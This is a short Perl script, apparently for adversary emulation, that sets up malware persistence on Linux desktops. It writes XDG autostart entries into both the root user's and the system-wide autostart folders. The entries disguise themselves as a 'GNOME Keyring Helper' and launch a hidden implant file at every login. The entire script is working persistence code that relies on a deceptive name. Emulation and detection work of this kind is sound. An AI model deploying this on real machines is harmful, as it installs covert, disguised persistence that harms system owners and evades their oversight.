#!/usr/bin/perl
# Imitates desktop-session persistence: an XDG autostart entry of its own in the user's and the system's
# autostart folders, which start a hidden copy of the implant at every login.
use strict;
use warnings;
use File::Path qw(make_path);

my $entry = "[Desktop Entry]\nType=Application\nName=GNOME Keyring Helper\nExec=/root/.local/share/.corpus-keyring\nHidden=false\nX-GNOME-Autostart-enabled=true\n";
for my $dir ('/root/.config/autostart', '/etc/xdg/autostart') {
  make_path($dir);
  open my $out, '>', "$dir/corpus-keyring-helper.desktop" or next;
  print $out $entry;
  close $out;
}
print "autostart entries written\n";
